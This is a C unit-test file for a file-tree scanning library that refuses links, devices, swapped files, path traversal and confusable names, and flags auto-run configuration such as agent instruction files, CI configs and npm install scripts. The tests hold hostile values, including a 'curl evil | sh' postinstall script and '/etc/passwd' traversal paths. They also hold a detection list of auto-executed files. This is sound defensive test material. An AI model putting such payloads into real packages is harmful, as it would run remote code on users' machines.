/*
 * Trees: what is refused (P17), what is executable configuration (P18), digests, differences, owned paths, merging.
 */
#include "own_folder.h"
#include "stage/execonf.h"
#include "stage/tree.h"
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

/* ---- somebody who exchanges a file when it has been looked at ---- */

static void (*exchange)(const char *path); /* NULL: nobody does */

int __real_fstatat(int fd, const char *restrict path, struct stat *restrict ret, int flags);
int __wrap_fstatat(int fd, const char *restrict path, struct stat *restrict ret, int flags);
int __wrap_fstatat(int fd, const char *restrict path, struct stat *restrict ret, int flags)
{
    int rc = __real_fstatat(fd, path, ret, flags);
    if (exchange != NULL && strcmp(path, "swapped") == 0)
        exchange("t/swapped");
    return rc;
}

static void by_another_file(const char *path)
{
    put("o/other", "mine ");
    assert_int_equal(rename("o/other", path), 0);
}

static void by_a_second_name(const char *path)
{
    assert_int_equal(link("o/outside", "o/other"), 0);
    assert_int_equal(rename("o/other", path), 0);
}

static void by_getting_a_second_name(const char *path)
{
    assert_int_equal(link(path, "o/other"), 0);
}

static void by_a_pipe(const char *path)
{
    assert_int_equal(mkfifo("o/other", 0644), 0);
    assert_int_equal(rename("o/other", path), 0);
}

static void by_a_link(const char *path)
{
    assert_int_equal(symlink("../o/outside", "o/other"), 0);
    assert_int_equal(rename("o/other", path), 0);
}

/* ---- trees ---- */

static int setup(void **state)
{
    exchange = NULL;
    (void)enter_own_folder(state);
    assert_int_equal(mkdir("t", 0755), 0);
    return 0;
}

static struct mw_tree scan(const char *folder)
{
    struct mw_err err;
    struct mw_tree tree = {0};
    if (mw_tree_scan(AT_FDCWD, folder, NULL, &tree, &err) != MW_OK)
        fail_msg("%s", err.text);
    return tree;
}

static void refused(enum mw_rc want, const char *named)
{
    struct mw_err err = {0};
    struct mw_tree tree = {0};
    enum mw_rc rc = mw_tree_scan(AT_FDCWD, "t", NULL, &tree, &err);
    if (rc != want)
        fail_msg("'%s': %s instead of %s (%s)", named, mw_rc_name(rc), mw_rc_name(want), err.text);
    assert_int_equal(tree.count, 0);
    if (strstr(err.text, named) == NULL)
        fail_msg("'%s' is not named in: %s", named, err.text);
}

static void a_manifest_is_sorted_and_its_text_is_canonical(void **state)
{
    (void)state;
    put("t/b", "bb");
    put("t/a/z", "");
    put("t/a.c", "abc");
    assert_int_equal(chmod("t/b", 0711), 0);
    assert_int_equal(mkdir("t/empty", 0755), 0);
    struct mw_tree tree = scan("t");
    struct mw_buf text = mw_heap_buf();
    mw_tree_text(&tree, &text);
    mw_buf_put_c(&text, '\0');
    assert_string_equal(text.ptr,
                        "{\"files\":[{\"path\":\"a.c\",\"mode\":\"0644\",\"size\":3,\"sha256\":"
                        "\"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\"},"
                        "{\"path\":\"a/z\",\"mode\":\"0644\",\"size\":0,\"sha256\":"
                        "\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"},"
                        "{\"path\":\"b\",\"mode\":\"0755\",\"size\":2,\"sha256\":"
                        "\"3b64db95cb55c763391c707108489ae18b4112d783300de38e033b4c98c3deaf\"}]}");
    char digest[MW_SHA256_HEX], again[MW_SHA256_HEX], want[MW_SHA256_HEX];
    mw_sha256_hex(mw_str_of(text.ptr), want);
    mw_tree_digest(&tree, digest);
    assert_string_equal(digest, want);
    struct mw_tree parsed;
    struct mw_err err;
    assert_int_equal(mw_tree_parse(mw_str_of(text.ptr), &parsed, &err), MW_OK);
    mw_tree_digest(&parsed, again);
    assert_string_equal(again, digest);
    assert_int_equal(mw_tree_find(&parsed, MW_STR("b"))->mode, 0755);
    assert_null(mw_tree_find(&parsed, MW_STR("c")));
    mw_tree_free(&parsed);
    assert_int_equal(mw_tree_parse(MW_STR("{\"files\":[{\"path\":\"../x\",\"mode\":\"0644\","
                                          "\"size\":0,\"sha256\":\"e3b0c44298fc1c149afbf4c8996fb924"
                                          "27ae41e4649b934ca495991b7852b855\"}]}"),
                                   &parsed, &err),
                     MW_E_DENIED);
    assert_int_equal(mw_tree_parse(MW_STR("{\"files\":[{\"path\":\"x\"}]}"), &parsed, &err),
                     MW_E_INPUT);
    /* One text a tree: no blanks, no other order, no further members. */
    static const char *const others[] = {"{\"files\": []}", "{\"files\":[],\"more\":1}",
                                         "{\"files\":[{\"mode\":\"0644\",\"path\":\"x\",\"size\":0,"
                                         "\"sha256\":\"e3b0c44298fc1c149afbf4"
                                         "c8996fb92427ae41e4649b934ca495991b7852b855\"}]}"};
    for (size_t i = 0; i < MW_COUNT(others); i++) {
        assert_int_equal(mw_tree_parse(mw_str_of(others[i]), &parsed, &err), MW_E_INPUT);
        assert_string_equal(err.text, "a manifest that is not in its canonical form");
    }
    mw_heap_buf_free(&text);
    mw_tree_free(&tree);
}

static void p17_links_and_devices_are_refused_by_name(void **state)
{
    (void)state;
    put("t/ok", "fine");
    assert_int_equal(symlink("/etc/passwd", "t/sub-link"), 0);
    refused(MW_E_DENIED, "sub-link");
    unlink("t/sub-link");
    assert_int_equal(mkdir("t/dir", 0755), 0);
    assert_int_equal(symlink("../..", "t/dir/up"), 0);
    refused(MW_E_DENIED, "dir/up");
    unlink("t/dir/up");
    put("o/outside", "secret");
    assert_int_equal(link("o/outside", "t/hard"), 0);
    refused(MW_E_DENIED, "hard");
    unlink("t/hard");
    assert_int_equal(mkfifo("t/pipe", 0644), 0);
    refused(MW_E_DENIED, "pipe");
    unlink("t/pipe");
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "t/sock"};
    assert_int_equal(bind(fd, (struct sockaddr *)&address, sizeof(address)), 0);
    close(fd);
    refused(MW_E_DENIED, "sock");
    unlink("t/sock");
    if (mknod("t/null", S_IFCHR | 0644, 0x103) == 0) {
        refused(MW_E_DENIED, "null");
        unlink("t/null");
    }
    struct mw_tree tree = scan("t");
    assert_int_equal(tree.count, 1);
    mw_tree_free(&tree);
    assert_int_equal(symlink("t", "link-to-t"), 0);
    struct mw_err err;
    assert_int_equal(mw_tree_scan(AT_FDCWD, "link-to-t", NULL, &tree, &err), MW_E_DENIED);
}

static void p17_a_file_that_is_exchanged_while_it_is_looked_at_is_refused(void **state)
{
    static void (*const ways[])(const char *path) = {
        by_another_file, by_a_second_name, by_getting_a_second_name, by_a_pipe, by_a_link};
    (void)state;
    put("o/outside", "secret");
    for (size_t i = 0; i < MW_COUNT(ways); i++) {
        put("t/swapped", "mine");
        exchange = ways[i];
        refused(MW_E_DENIED, "swapped");
        exchange = NULL;
        (void)unlink("t/swapped");
        (void)unlink("o/other");
    }
    put("t/swapped", "mine");
    struct mw_tree tree = scan("t");
    assert_int_equal(tree.count, 1);
    mw_tree_free(&tree);
}

static void p17_hostile_names_are_refused(void **state)
{
    (void)state;
    static const char *const names[] = {
        "a\\b",
        "new\nline",
        "tab\there",
        "bell\a",
        "del\x7f",
        "\xff\xfe",
        "caf\xe9",
        "\xc0\xaf",
        ".git",
        ".GIT",
        ".Git",
        ".g\xe2\x80\x8cit", /* with a zero-width non-joiner: HFS+ does not see it */
        "\xef\xbc\x8egit",  /* a full-width full stop */
        "\xed\xa0\x80",     /* a lone surrogate */
    };
    for (size_t i = 0; i < MW_COUNT(names); i++) {
        mw_autofree char *path = mw_heap_format("t/%s/config", names[i]);
        put(path, "x");
        struct mw_err err = {0};
        struct mw_tree tree;
        enum mw_rc rc = mw_tree_scan(AT_FDCWD, "t", NULL, &tree, &err);
        if (rc != MW_E_DENIED)
            fail_msg("name %zu: %s (%s)", i, mw_rc_name(rc), err.text);
        assert_int_equal(mw_remove_tree(AT_FDCWD, "t", &err), MW_OK);
    }
}

static void p17_hostile_paths_in_a_manifest_are_refused(void **state)
{
    (void)state;
    static const char *const paths[] = {"",
                                        "/etc/passwd",
                                        "..",
                                        "../x",
                                        "a/../b",
                                        "a/./b",
                                        "./a",
                                        "a//b",
                                        "a/",
                                        "/",
                                        "a/..",
                                        "C:\\x",
                                        "a\\..\\b",
                                        ".git/hooks/pre-commit",
                                        "x/.git/config"};
    for (size_t i = 0; i < MW_COUNT(paths); i++) {
        struct mw_err err = {0};
        struct mw_tree tree = {0};
        struct mw_tree_file file = {.path = mw_str_of(paths[i]), .mode = 0644};
        mw_tree_add(&tree, &file);
        if (mw_tree_seal(&tree, &err) != MW_E_DENIED)
            fail_msg("'%s' was taken", paths[i]);
        mw_tree_free(&tree);
    }
}

static void p17_names_that_are_one_elsewhere_are_refused(void **state)
{
    (void)state;
    static const char *const pairs[][2] = {
        {"readme.md", "README.md"},
        {"src/a", "SRC/b"},               /* folders collide too */
        {"caf\xc3\xa9", "cafe\xcc\x81"},  /* composed and decomposed */
        {"\xc3\x84.txt", "\xc3\xa4.txt"}, /* Ä, ä */
        {"stra\xc3\x9f"
         "e",
         "STRASSE"},                /* full case folding */
        {"\xce\xa3", "\xcf\x82"},   /* Sigma, final sigma */
        {"\xe2\x84\xaa", "k"},      /* the Kelvin sign */
        {"\xef\xac\x81le", "file"}, /* the ligature fi */
        {"a", "a\xe2\x80\x8b"},     /* a zero-width space */
        {"x", "x"},                 /* twice */
        {"a", "a/b"},               /* file and folder */
        {"A", "a/b"},
        {"abcdefghijklmnopqrstuvwxyz", "ABCDEFGHIJKLMNOPQRSTUVWXYZ"},
    };
    for (size_t i = 0; i < MW_COUNT(pairs); i++) {
        struct mw_err err = {0};
        struct mw_tree tree = {0};
        for (int side = 0; side < 2; side++) {
            struct mw_tree_file file = {.path = mw_str_of(pairs[i][side]), .mode = 0644};
            mw_tree_add(&tree, &file);
        }
        if (mw_tree_seal(&tree, &err) != MW_E_DENIED)
            fail_msg("'%s' and '%s' were taken", pairs[i][0], pairs[i][1]);
        mw_tree_free(&tree);
    }
    static const char *const fine[] = {"a",
                                       "b",
                                       "a.c",
                                       "a-b/c",
                                       "a-b/d",
                                       "\xc3\xa9",
                                       "e",
                                       "z@",
                                       "z`", /* beside the letters, and no letter */
                                       "z[",
                                       "z{",
                                       "\xe6\x97\xa5\xe6\x9c\xac",
                                       "\xf0\x9f\x98\x80"};
    struct mw_err err = {0};
    struct mw_tree tree = {0};
    for (size_t i = 0; i < MW_COUNT(fine); i++) {
        struct mw_tree_file file = {.path = mw_str_of(fine[i]), .mode = 0644};
        mw_tree_add(&tree, &file);
    }
    if (mw_tree_seal(&tree, &err) != MW_OK)
        fail_msg("%s", err.text);
    mw_tree_free(&tree);
}

static void p17_limits_are_named(void **state)
{
    (void)state;
    struct mw_err err;
    struct mw_tree tree;
    put("t/a", "12345");
    put("t/b", "12345");
    const struct mw_tree_limits limits[] = {
        {1, 100, 100, 100}, {10, 9, 100, 100}, {10, 100, 4, 100}, {10, 100, 100, 0}};
    for (size_t i = 0; i < MW_COUNT(limits); i++) {
        struct mw_tree_scan options = {.limits = &limits[i]};
        assert_int_equal(mw_tree_scan(AT_FDCWD, "t", &options, &tree, &err), MW_E_LIMIT);
    }
    /* What the kernel makes says that it has no bytes, and gives as many as are read. */
    const struct mw_tree_limits few = {100, 1000, 8, 100};
    struct mw_tree_scan kernels = {.limits = &few};
    assert_int_equal(mw_tree_scan(AT_FDCWD, "/proc/sys/kernel/random", &kernels, &tree, &err),
                     MW_E_LIMIT);
    assert_non_null(strstr(err.text, "is larger than 8 bytes"));
    const struct mw_tree_limits enough = {2, 10, 5, 1};
    struct mw_tree_scan options = {.limits = &enough};
    assert_int_equal(mw_tree_scan(AT_FDCWD, "t", &options, &tree, &err), MW_OK);
    mw_tree_free(&tree);
    const struct mw_str ignore[] = {MW_STR("b"), MW_STR("node_modules/**")};
    assert_int_equal(symlink("/", "t/b2"), 0);
    const struct mw_str all[] = {MW_STR("b*")};
    options = (struct mw_tree_scan){.ignore = ignore, .ignore_count = 2};
    assert_int_equal(mw_tree_scan(AT_FDCWD, "t", &options, &tree, &err), MW_E_DENIED);
    options = (struct mw_tree_scan){.ignore = all, .ignore_count = 1};
    assert_int_equal(mw_tree_scan(AT_FDCWD, "t", &options, &tree, &err), MW_OK);
    assert_int_equal(tree.count, 1);
    mw_tree_free(&tree);
}

static void a_look_at_somebodys_folder_refuses_and_follows_nothing(void **state)
{
    (void)state;
    struct mw_err err;
    struct mw_tree tree;
    char one[MW_SHA256_HEX], two[MW_SHA256_HEX];
    put("t/a", "1");
    assert_int_equal(symlink("/etc", "t/link"), 0);
    assert_int_equal(mkfifo("t/pipe", 0644), 0);
    struct mw_tree_scan observe = {.observe = true};
    assert_int_equal(mw_tree_scan(AT_FDCWD, "t", &observe, &tree, &err), MW_OK);
    assert_int_equal(tree.count, 3);
    mw_tree_digest(&tree, one);
    mw_tree_free(&tree);
    unlink("t/link");
    assert_int_equal(symlink("/usr", "t/link"), 0);
    assert_int_equal(mw_tree_scan(AT_FDCWD, "t", &observe, &tree, &err), MW_OK);
    mw_tree_digest(&tree, two);
    mw_tree_free(&tree);
    assert_string_not_equal(one, two);
}

static void globs_match_within_a_part_and_across(void **state)
{
    (void)state;
    static const struct {
        const char *pattern, *path;
        bool matches;
    } rows[] = {
        {"a", "a", true},
        {"a", "b", false},
        {"a", "a/b", false},
        {"*", "a", true},
        {"*", "a/b", false},
        {"*.js", "x.js", true},
        {"*.js", "x.jsx", false},
        {"src/*.js", "src/x.js", true},
        {"src/*.js", "src/a/x.js", false},
        {"src/**", "src/a/b", true},
        {"src/**", "src", false},
        {"src/**", "srcs/a", false},
        {"**", "a/b/c", true},
        {"**/x", "x", true},
        {"**/x", "a/b/x", true},
        {"**/x", "a/b/xx", false},
        {"a/**/b", "a/b", true},
        {"a/**/b", "a/x/y/b", true},
        {"a/**/b", "a/x/y/c", false},
        {"a/**/b/*.c", "a/b/b/q.c", true},
        {"**/a/**/b", "x/a/y/a/z/b", true},
        {"a*b*c", "aXbYc", true},
        {"a*b*c", "aXbY", false},
        {"*", "", false},
        {"**", "", false},
        {"", "a", false},
        {"services/order/**", "services/order/../x", true}, /* lexical checks come before */
    };
    for (size_t i = 0; i < MW_COUNT(rows); i++)
        if (mw_glob_match(mw_str_of(rows[i].pattern), mw_str_of(rows[i].path)) != rows[i].matches)
            fail_msg("'%s' and '%s'", rows[i].pattern, rows[i].path);
    /* A pattern made to be slow is not. */
    char pattern[401], path[401];
    for (int i = 0; i < 200; i++) {
        memcpy(pattern + 2 * i, "*a", 2);
        memcpy(path + 2 * i, "aa", 2);
    }
    pattern[400] = path[400] = '\0';
    path[399] = 'b';
    assert_false(mw_glob_match(mw_str_of(pattern), mw_str_of(path)));
}

static void a_difference_names_changes_and_what_is_not_owned(void **state)
{
    (void)state;
    put("t/keep", "1");
    put("t/gone", "1");
    put("t/src/edit", "1");
    put("t/src/old \"two\"", "1");
    put("t/mode", "1");
    put("u/keep", "1");
    put("u/src/edit", "2");
    put("u/src/new", "1");
    put("u/mode", "1");
    assert_int_equal(chmod("u/mode", 0755), 0);
    struct mw_tree before = scan("t"), after = scan("u");
    struct mw_tree_diff diff, outside;
    mw_tree_compare(&before, &after, &diff);
    struct mw_buf text = mw_heap_buf();
    mw_tree_diff_words(&diff, 3, &text);
    mw_buf_put_c(&text, ';');
    assert_int_equal(mw_tree_diff_json(&diff, 4096, &text), 0);
    assert_true(mw_str_is(mw_buf_str(&text),
                          "removed gone, changed mode, changed src/edit (and 2 more);"
                          "[{\"path\":\"gone\",\"change\":\"removed\"},"
                          "{\"path\":\"mode\",\"change\":\"changed\"},"
                          "{\"path\":\"src/edit\",\"change\":\"changed\"},"
                          "{\"path\":\"src/new\",\"change\":\"added\"},"
                          "{\"path\":\"src/old \\\"two\\\"\",\"change\":\"removed\"}]"));
    mw_buf_reset(&text);
    assert_int_equal(mw_tree_diff_json(&diff, 72, &text), 3);
    assert_true(mw_str_is(mw_buf_str(&text), "[{\"path\":\"gone\",\"change\":\"removed\"},"
                                             "{\"path\":\"mode\",\"change\":\"changed\"}]"));
    mw_buf_reset(&text);
    assert_int_equal(mw_tree_diff_json(&diff, 8, &text), 5);
    assert_true(mw_str_is(mw_buf_str(&text), "[]"));
    mw_heap_buf_free(&text);
    const struct mw_str owned[] = {MW_STR("src/**"), MW_STR("mo*")};
    mw_tree_violations(&diff, owned, 2, &outside);
    assert_int_equal(outside.count, 2);
    assert_true(mw_str_is(outside.changes[0].path, "gone"));
    assert_null(outside.changes[0].after);
    assert_true(
        mw_str_is(outside.changes[1].path, "src/old \"two\"")); /* also of what is its own */
    assert_null(outside.changes[1].after);
    mw_tree_diff_free(&outside);
    mw_tree_violations(&diff, NULL, 0, &outside);
    assert_int_equal(outside.count, 5);
    mw_tree_diff_free(&outside);
    mw_tree_diff_free(&diff);
    mw_tree_free(&before);
    mw_tree_free(&after);
}

static void merging_finds_every_conflict(void **state)
{
    (void)state;
    put("t/a", "1");
    put("t/same", "1");
    put("u/b", "1");
    put("u/same", "1");
    struct mw_tree one = scan("t"), two = scan("u"), merged;
    const struct mw_tree *both[] = {&one, &two};
    struct mw_err err;
    assert_int_equal(mw_tree_merge(both, 2, &merged, &err), MW_OK);
    assert_int_equal(merged.count, 3);
    mw_tree_free(&merged);
    mw_tree_free(&two);
    put("u/same", "2");
    put("u/a", "2");
    two = scan("u");
    assert_int_equal(mw_tree_merge(both, 2, &merged, &err), MW_E_CONFLICT);
    assert_non_null(strstr(err.text, "(2): a, same"));
    mw_tree_free(&two);
    put("u/same", "1"); /* the same bytes, but one of them is a program */
    assert_int_equal(chmod("u/same", 0755), 0);
    two = scan("u");
    assert_int_equal(mw_tree_merge(both, 2, &merged, &err), MW_E_CONFLICT);
    assert_non_null(strstr(err.text, "(2): a, same"));
    mw_tree_free(&two);
    assert_int_equal(unlink("u/same"), 0);
    assert_int_equal(unlink("u/a"), 0);
    put("u/SAME", "1");
    two = scan("u");
    assert_int_equal(mw_tree_merge(both, 2, &merged, &err), MW_E_DENIED);
    mw_tree_free(&one);
    mw_tree_free(&two);
}

static void p22_a_tree_goes_into_blobs_and_comes_out_the_same(void **state)
{
    (void)state;
    struct mw_err err;
    struct mw_blobs blobs;
    struct mw_tree tree, out;
    assert_int_equal(mw_blobs_open(AT_FDCWD, "store", &blobs, &err), MW_OK);
    for (int i = 0; i < 300; i++) {
        char path[64];
        snprintf(path, sizeof(path), "t/d%d/e%d/f%d", i % 7, i % 3, i);
        put(path, path);
    }
    put("t/run", "#!/bin/sh\n");
    assert_int_equal(chmod("t/run", 0700), 0);
    struct mw_tree_scan options = {.blobs = &blobs};
    assert_int_equal(mw_tree_scan(AT_FDCWD, "t", &options, &tree, &err), MW_OK);
    struct mw_tree_source source = {.blobs = &blobs, .folder_fd = -1, .overlay_fd = -1};
    mode_t mask = umask(0077);
    enum mw_rc rc = mw_tree_write(&tree, &source, AT_FDCWD, "out",
                                  (struct mw_tree_write){.durable = true, .read_only = true}, &err);
    umask(mask);
    if (rc != MW_OK)
        fail_msg("%s", err.text);
    out = scan("out");
    char one[MW_SHA256_HEX], two[MW_SHA256_HEX];
    mw_tree_digest(&tree, one);
    mw_tree_digest(&out, two);
    assert_string_equal(one, two);
    struct stat st;
    assert_int_equal(stat("out/run", &st), 0);
    assert_int_equal(st.st_mode & 07777, 0555);
    assert_int_equal(
        mw_tree_write(&tree, &source, AT_FDCWD, "out", (struct mw_tree_write){0}, &err),
        MW_E_CONFLICT);
    /* From a folder, a byte changed since is noticed. */
    mw_autoclose int t_fd = open("t", O_RDONLY | O_DIRECTORY);
    struct mw_tree_source folder = {.folder_fd = t_fd, .overlay_fd = -1};
    put("t/run", "#!/bin/zz\n");
    assert_int_equal(
        mw_tree_write(&tree, &folder, AT_FDCWD, "out2", (struct mw_tree_write){0}, &err),
        MW_E_CORRUPT);
    assert_non_null(strstr(err.text, "run"));
    mw_tree_free(&tree);
    mw_tree_free(&out);
    mw_blobs_close(&blobs);
}

static void p18_executable_configuration_is_flagged(void **state)
{
    (void)state;
    static const char *const flagged[] = {".mcp.json",
                                          "services/a/CLAUDE.md",
                                          "AGENTS.md",
                                          "agents.MD",
                                          ".npmrc",
                                          "a/.NPMRC",
                                          ".vscode/tasks.json",
                                          "x/.vscode/tasks.json",
                                          ".githooks/pre-commit",
                                          ".husky/pre-push",
                                          ".github/workflows/ci.yml",
                                          ".gitlab-ci.yml",
                                          "azure-pipelines.yml",
                                          ".claude/settings.json",
                                          ".envrc",
                                          "Jenkinsfile",
                                          "conftest.py",
                                          "setup.py",
                                          "binding.gyp",
                                          ".gitattributes",
                                          "package.json",
                                          "deep/er/package.json"};
    static const char *const ordinary[] = {"src/main.js",      "README.md", "package-lock.json",
                                           "docs/agents.html", "claude.js", "config/ai.json",
                                           "Dockerfile",       "app.json"};
    for (size_t i = 0; i < MW_COUNT(flagged); i++)
        if (mw_execonf_why(mw_str_of(flagged[i]), MW_STR_NONE) == NULL)
            fail_msg("'%s' slipped in", flagged[i]);
    for (size_t i = 0; i < MW_COUNT(ordinary); i++)
        if (mw_execonf_why(mw_str_of(ordinary[i]), MW_STR_NONE) != NULL)
            fail_msg("'%s' was flagged", ordinary[i]);
    static const struct {
        const char *text;
        bool runs;
    } packages[] = {
        {"{\"scripts\":{\"start\":\"node .\",\"test\":\"node --test\"}}", false},
        {"{\"name\":\"x\"}", false},
        {"{\"scripts\":{\"postinstall\":\"curl evil | sh\"}}", true},
        {"{\"scripts\":{\"prepare\":\"x\"}}", true},
        {"{\"scripts\":{\"start\":\"a\",\"scripts\":{}},}", true}, /* cannot be read: flagged */
        {"", true},
    };
    for (size_t i = 0; i < MW_COUNT(packages); i++)
        if ((mw_execonf_why(MW_STR("a/package.json"), mw_str_of(packages[i].text)) != NULL) !=
            packages[i].runs)
            fail_msg("package %zu", i);
}

static void is_flagged(bool flagged, const char *format, const char *a, const char *b)
{
    char path[256];
    (void)snprintf(path, sizeof path, format, a, b);
    if ((mw_execonf_why(mw_str_of(path), MW_STR("{}")) != NULL) != flagged)
        fail_msg("'%s' %s", path, flagged ? "slipped in" : "was flagged");
}

/* The whole list, said here once more: names in any folder, and everything that lies in folders of a name, however deep. */
static void p18_all_that_tools_run_by_themselves_is_flagged_wherever_it_lies(void **state)
{
    static const char *const names[] = {".mcp.json",
                                        "mcp.json",
                                        "claude.md",
                                        "claude.local.md",
                                        "agents.md",
                                        "gemini.md",
                                        "copilot-instructions.md",
                                        ".cursorrules",
                                        ".windsurfrules",
                                        ".clinerules",
                                        ".aider.conf.yml",
                                        "opencode.json",
                                        "opencode.jsonc",
                                        ".npmrc",
                                        ".yarnrc",
                                        ".yarnrc.yml",
                                        ".pnpmfile.cjs",
                                        ".pnp.cjs",
                                        "pnpm-workspace.yaml",
                                        "bunfig.toml",
                                        "binding.gyp",
                                        ".lvimrc",
                                        ".exrc",
                                        ".nvimrc",
                                        ".vimrc",
                                        ".nvim.lua",
                                        ".dir-locals.el",
                                        ".gdbinit",
                                        ".lldbinit",
                                        ".devcontainer.json",
                                        ".envrc",
                                        "mise.toml",
                                        ".mise.toml",
                                        ".bashrc",
                                        ".bash_profile",
                                        ".profile",
                                        ".zshrc",
                                        ".zshenv",
                                        ".gitattributes",
                                        ".gitmodules",
                                        ".gitconfig",
                                        "lefthook.yml",
                                        ".lefthook.yml",
                                        ".pre-commit-config.yaml",
                                        ".gitlab-ci.yml",
                                        ".gitlab-ci.yaml",
                                        ".travis.yml",
                                        ".drone.yml",
                                        ".woodpecker.yml",
                                        ".cirrus.yml",
                                        "appveyor.yml",
                                        "azure-pipelines.yml",
                                        "azure-pipelines.yaml",
                                        "bitbucket-pipelines.yml",
                                        "cloudbuild.yaml",
                                        "buildspec.yml",
                                        "jenkinsfile",
                                        "sitecustomize.py",
                                        "usercustomize.py",
                                        "conftest.py",
                                        "setup.py",
                                        "build.rs",
                                        "directory.build.props",
                                        "directory.build.targets",
                                        ".vscode/tasks.json",
                                        ".vscode/launch.json",
                                        ".vscode/settings.json",
                                        ".vscode/mcp.json",
                                        "hooks/pre-commit",
                                        "hooks/post-checkout",
                                        ".cargo/config",
                                        ".cargo/config.toml"};
    static const char *const folders[] = {".claude",
                                          ".codex",
                                          ".cursor",
                                          ".gemini",
                                          ".opencode",
                                          ".aider",
                                          ".clinerules",
                                          ".yarn",
                                          ".idea",
                                          ".zed",
                                          ".devcontainer",
                                          ".githooks",
                                          "githooks",
                                          ".husky",
                                          ".github/workflows",
                                          ".github/actions",
                                          ".gitea/workflows",
                                          ".forgejo/workflows",
                                          ".circleci",
                                          ".buildkite",
                                          ".woodpecker",
                                          ".mvn"};
    (void)state;
    for (size_t i = 0; i < MW_COUNT(names); i++) {
        char upper[64];
        size_t at = 0;
        for (; names[i][at] != '\0'; at++)
            upper[at] = (char)(names[i][at] >= 'a' && names[i][at] <= 'z' ? names[i][at] - 32
                                                                          : names[i][at]);
        upper[at] = '\0';
        is_flagged(true, "%s%s", "", names[i]);
        is_flagged(true, "%s%s", "", upper);
        is_flagged(true, "%s%s", "services/a/", names[i]);
        is_flagged(true, "%s%s", "Services/", upper);
        if (strchr(names[i], '/') == NULL)
            is_flagged(false, "%s%s", "x", names[i]);
    }
    for (size_t i = 0; i < MW_COUNT(folders); i++) {
        is_flagged(true, "%s%s/x", "", folders[i]);
        is_flagged(true, "%s%s/hooks/deep/er/x.sh", "", folders[i]);
        is_flagged(true, "%s%s/x", "services/a/", folders[i]);
        is_flagged(true, "%s%s/x/y", "services/a/b/", folders[i]);
        is_flagged(false, "%s%sx/y", "", folders[i]);
        is_flagged(false, "x%s%s/y", "", folders[i]);
    }
    is_flagged(true, "%s%s", "a/", "all.code-workspace");
    is_flagged(true, "%s%s", "lib/", "site.pth");
    is_flagged(true, "%s%s", "", ".huskyrc.json");
}

/* What npm and its like run at install, each alone and behind others; what somebody has to ask for by name is not. */
static void p18_each_script_that_runs_by_itself_is_flagged(void **state)
{
    static const char *const scripts[] = {
        "preinstall",   "install",   "postinstall",   "prepublish",   "prepublishOnly",
        "preprepare",   "prepare",   "postprepare",   "prepack",      "postpack",
        "preuninstall", "uninstall", "postuninstall", "dependencies", "pnpm:devPreinstall"};
    static const char *const asked_for[] = {"start", "test", "build", "installer", "lint"};
    (void)state;
    for (size_t i = 0; i < MW_COUNT(scripts) + MW_COUNT(asked_for); i++) {
        bool runs = i < MW_COUNT(scripts);
        const char *name = runs ? scripts[i] : asked_for[i - MW_COUNT(scripts)];
        mw_autofree char *alone = mw_heap_format("{\"scripts\":{\"%s\":\"x\"}}", name);
        mw_autofree char *behind =
            mw_heap_format("{\"scripts\":{\"dev\":\"y\",\"%s\":\"\"}}", name);
        const char *const texts[] = {alone, behind};
        for (size_t t = 0; t < MW_COUNT(texts); t++)
            if ((mw_execonf_why(MW_STR("package.json"), mw_str_of(texts[t])) != NULL) != runs)
                fail_msg("%s", texts[t]);
    }
}

/* The digest that a refusal gives, whole: not a part of it, not one for the same bytes in another place. */
static void p18_a_review_is_of_these_paths_and_bytes_by_the_whole_digest(void **state)
{
    struct mw_err err;
    struct mw_execonf_list list, moved;
    char digest[MW_SHA256_HEX], other[80];
    (void)state;
    put("t/docs/AGENTS.md", "be nice\n");
    put("u/AGENTS.md", "be nice\n");
    struct mw_tree tree = scan("t"), up = scan("u");
    const struct mw_tree_source source = {.folder_fd = -1, .overlay_fd = -1};
    assert_int_equal(mw_execonf_find(&tree, NULL, &source, &list, &err), MW_OK);
    assert_int_equal(mw_execonf_find(&up, NULL, &source, &moved, &err), MW_OK);
    mw_execonf_digest(&list, digest);
    assert_int_equal(mw_execonf_review(&list, digest, &err), MW_OK);
    for (size_t len = 0; len < strlen(digest); len++) {
        (void)snprintf(other, sizeof other, "%.*s", (int)len, digest);
        assert_int_equal(mw_execonf_review(&list, other, &err), MW_E_DENIED);
        (void)snprintf(other, sizeof other, "%s", digest);
        other[len] = other[len] == '0' ? '1' : '0';
        assert_int_equal(mw_execonf_review(&list, other, &err), MW_E_DENIED);
    }
    (void)snprintf(other, sizeof other, "%s0", digest);
    assert_int_equal(mw_execonf_review(&list, other, &err), MW_E_DENIED);
    assert_non_null(strstr(err.text, digest));
    assert_int_equal(mw_execonf_review(&moved, digest, &err), MW_E_DENIED);
    mw_execonf_free(&list);
    mw_execonf_free(&moved);
    mw_tree_free(&tree);
    mw_tree_free(&up);
}

static void p18_an_approval_holds_for_these_bytes_only(void **state)
{
    (void)state;
    struct mw_err err;
    put("t/AGENTS.md", "be nice\n");
    put("t/src/x.js", "1\n");
    put("t/a/package.json", "{\"scripts\":{\"start\":\"node .\"}}");
    put("t/b/package.json", "{\"scripts\":{\"postinstall\":\"x\"}}");
    struct mw_tree tree = scan("t"), none = {0};
    struct mw_execonf_list list;
    mw_autoclose int fd = open("t", O_RDONLY | O_DIRECTORY);
    struct mw_tree_source source = {.folder_fd = fd, .overlay_fd = -1};
    assert_int_equal(mw_execonf_find(&tree, NULL, &source, &list, &err), MW_OK);
    assert_int_equal(list.count, 2);
    assert_true(mw_str_is(list.items[0].path, "AGENTS.md"));
    assert_true(mw_str_is(list.items[1].path, "b/package.json"));
    assert_int_equal(mw_execonf_check(&list, &none, &err), MW_E_WAITING);
    assert_non_null(strstr(err.text, "AGENTS.md"));
    assert_int_equal(mw_execonf_check(&list, &tree, &err), MW_OK);
    mw_execonf_free(&list);
    put("t/AGENTS.md", "be nicE\n");
    struct mw_tree changed = scan("t");
    assert_int_equal(mw_execonf_find(&changed, NULL, &source, &list, &err), MW_OK);
    assert_int_equal(mw_execonf_check(&list, &tree, &err), MW_E_WAITING);
    assert_null(strstr(err.text, "package.json"));
    mw_execonf_free(&list);
    /* What the base holds with the same bytes was there before. */
    assert_int_equal(mw_execonf_find(&changed, &tree, &source, &list, &err), MW_OK);
    assert_int_equal(list.count, 1);
    mw_execonf_free(&list);
    mw_tree_free(&tree);
    mw_tree_free(&changed);
}

int main(void)
{
